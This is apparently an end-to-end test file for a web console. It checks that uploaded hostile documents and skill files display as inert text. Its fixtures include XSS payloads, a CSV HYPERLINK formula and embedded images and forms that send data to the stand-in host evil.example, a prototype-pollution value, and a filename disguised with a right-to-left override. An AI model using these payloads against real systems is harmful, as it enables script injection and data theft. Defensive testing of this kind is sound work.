"""Hostile documents and files of skills: whatever one holds or is called, the pages show text, run nothing and ask nobody."""

from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from tests.e2e.console.conftest import OpenConsole
from tests.e2e.console.test_hostile_content import SCRIPT, check_harmless, watched
from tests.fixtures.http.client import Api
from tests.fixtures.product.server import Server

FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"total")'
FILES = {
    "annual\u202egpj.exe.md": f"# Totals {SCRIPT}\n\n![x](https://evil.example/a.png) <style>@import 'https://evil.example'</style>",
    "<img src=x onerror=window.pwned=1>.txt": f"plain {SCRIPT} javascript:window.pwned=1",
    "page.html": f"<html><body onload='window.pwned=1'><h1>Relay</h1>{SCRIPT}"
    "<form action='https://evil.example'><input name=secret></form><a href='javascript:window.pwned=1'>go</a>"
    "<iframe src='https://evil.example'></iframe><p>The relay listens.</p></body></html>",
    "picture.xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'><text>Relay</text>"
    "<image href='https://evil.example/a.png'/></svg>",
    "sums.csv": f'name,total\n{SCRIPT.replace(",", " ")},"{FORMULA.replace(chr(34), chr(34) * 2)}"\n',
    "data.json": '{"__proto__": {"pwned": 1}, "text": "</script><script>window.pwned=1</script>"}',
}


@pytest.fixture(scope="module")
def library(servers) -> tuple[Server, Api, str, dict[str, str]]:
    """A knowledge base with one of each: the ids by the names that the server kept."""
    server: Server = servers("embedded")
    member = server.member()
    kb = member.create_kb()
    ids = [member.upload(kb, name, content) for name, content in FILES.items()]
    return server, member, kb, {member.wait(kb, document)["name"]: document for document in ids}


def test_hostile_files_and_names_do_nothing_in_lists_and_searches(browser_thread, library, open_console: OpenConsole):
    server, member, kb, documents = library
    assert not any("\u202e" in name for name in documents)
    console = open_console(server, member)
    outside = watched(console)
    for path in (
        f"/knowledge-bases/{kb}",
        f"/knowledge-bases/{kb}?q=<img",
        f"/knowledge-bases/{kb}/search?q=relay <img src=x onerror=window.pwned=1>",
        f"/knowledge-bases/{kb}/settings",
        "/search?q=relay",
    ):
        console.open(path)
        check_harmless(console.page)
    assert outside == []


def test_hostile_files_do_nothing_where_they_are_read(browser_thread, library, open_console: OpenConsole):
    server, member, kb, documents = library
    console = open_console(server, member)
    outside = watched(console)
    for document in documents.values():
        console.open(f"/knowledge-bases/{kb}/documents/{document}")
        expect(console.page.get_by_role("article").first).to_be_visible()
        check_harmless(console.page)
        assert console.page.locator("iframe, form[action^=http], object, embed, img[src^=http]").count() == 0
    console.open(f"/knowledge-bases/{kb}/documents/{documents['sums.csv']}")
    # A formula is what it says.
    expect(console.page.get_by_role("cell", name="HYPERLINK")).to_have_text(FORMULA)
    assert outside == []


SKILL = f"""---
name: hostile-files
description: Has files that would like to be more than text.
---

# Steps

Read [the page](references/page.html), [the script](javascript:window.pwned=1), [the picture](https://evil.example/?q=secret).

![leak](https://evil.example/leak.png) {SCRIPT}

<iframe src="https://evil.example"></iframe>
"""
BINARY = b"\x89PNG\r\n\x1a\n\x00" + bytes(range(256))
SKILL_FILES: dict[str, bytes] = {
    "references/page.html": FILES["page.html"].encode(),
    "assets/picture.svg": FILES["picture.xml"].encode(),
    "references/notes.md": f"# Notes {SCRIPT}\n\n![x](https://evil.example/a.png)".encode(),
    "assets/pixel.png": BINARY,
    "assets/broken.txt": b"\xff\xfe\x00plain \x00",
    "references/<img src=x onerror=window.pwned=1>.md": b"plain",
    f"references/{'long-' * 30}.md": b"plain",
}
ODD_NAMES = ["references/annual\u202egpj.exe.md", "references/zero\u200bwidth.md"]


def test_hostile_files_of_a_skill_are_shown_as_text_alone(
    browser_thread, embedded: Server, member: Api, open_console: OpenConsole
):
    skill = member.post("/skills", {"content": SKILL})["id"]
    kept = [path for path, content in SKILL_FILES.items() if put(member, skill, path, content)]
    # A name may be refused, but never shown as another one.
    odd = [path for path in ODD_NAMES if put(member, skill, path, b"plain")]
    assert {"references/page.html", "assets/picture.svg", "assets/pixel.png"} <= set(kept)
    console = open_console(embedded, member)
    page, outside = console.page, watched(console)
    console.open(f"/skills/{skill}/files")
    expect(page.get_by_role("row")).to_have_count(1 + len(kept) + len(odd))
    assert not any(sign in page.locator("main").inner_text() for sign in "\u202e\u200b")
    assert page.evaluate("document.querySelector('main').scrollWidth <= window.innerWidth")
    console.picture("skill-files-hostile")
    dialog = page.get_by_role("dialog")
    for path in kept:
        page.get_by_role("button", name=f"Edit {path}", exact=True).click()
        if path in ("assets/pixel.png", "assets/broken.txt"):
            expect(dialog.get_by_text("This file is no text")).to_be_visible()
        else:
            expect(dialog.get_by_label("Content")).to_have_value(SKILL_FILES[path].decode())
        assert page.locator("iframe, object, embed, form[action], main img, [role=dialog] img").count() == 0
        check_harmless(page)
        dialog.get_by_role("button", name="Cancel").click()
        expect(dialog).to_have_count(0)
    with page.expect_download() as download:
        page.get_by_role("button", name="Download references/page.html").click()
    assert Path(download.value.path()).read_bytes() == SKILL_FILES["references/page.html"]
    assert outside == []


def test_preview_of_a_hostile_skill_says_where_its_links_lead(
    browser_thread, embedded: Server, member: Api, open_console: OpenConsole
):
    skill = member.post("/skills", {"content": SKILL})["id"]
    console = open_console(embedded, member)
    page, outside = console.page, watched(console)
    console.open(f"/skills/{skill}?side=preview")
    link = page.get_by_role("link", name="the picture")
    expect(link).to_have_attribute("title", "https://evil.example/?q=secret")
    expect(page.get_by_text("the script", exact=True).first).to_be_visible()
    expect(page.get_by_role("link", name="the script")).to_have_count(0)
    expect(page.get_by_text("leak", exact=True).first).to_be_visible()
    assert page.locator("main iframe, main img").count() == 0
    check_harmless(page)
    assert outside == []


def put(person: Api, skill: str, path: str, content: bytes) -> bool:
    """Put a file beside a skill; whether the server took it."""
    address = f"/skills/{skill}/files/{quote(path)}"
    answer = person.request("PUT", address, content=content, headers={"Content-Type": "application/octet-stream"})
    assert answer.status_code < 500, answer.text
    return answer.status_code < 300
